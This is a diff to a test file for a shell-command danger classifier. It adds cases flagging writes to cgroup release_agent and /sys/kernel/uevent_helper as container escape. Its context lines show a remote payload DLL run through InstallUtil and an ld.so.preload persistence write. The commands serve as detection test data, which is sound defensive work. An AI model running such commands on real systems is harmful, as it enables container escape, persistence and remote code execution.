@@ -94,6 +94,11 @@ describe("commands by their grammar (seventh round)", () => {
     expect(types("InstallUtil.exe https://a.example/payload.dll")).toContain("dangerous_command.download_execute");
     expect(types("firefox https://a.example/setup.msi")).toEqual([]);
   });
+  it("a kernel hook that runs a program as root, written to, is a way out of a container; reading it is not", () => {
+    expect(types("echo /tmp/x > /sys/fs/cgroup/memory/release_agent")).toContain("dangerous_command.privileged_container");
+    expect(types("printf /var/tmp/h | tee /sys/kernel/uevent_helper")).toContain("dangerous_command.privileged_container");
+    expect(types("cat /sys/kernel/uevent_helper")).toEqual([]);
+  });
   it("the loader's preload file written is persistence; a library path config is not", () => {
     expect(types("echo /var/tmp/.l.so > /etc/ld.so.preload")).toContain("dangerous_command.persistence");
     expect(types("echo /opt/x/lib | sudo tee /etc/ld.so.conf.d/x.conf")).toEqual([]);
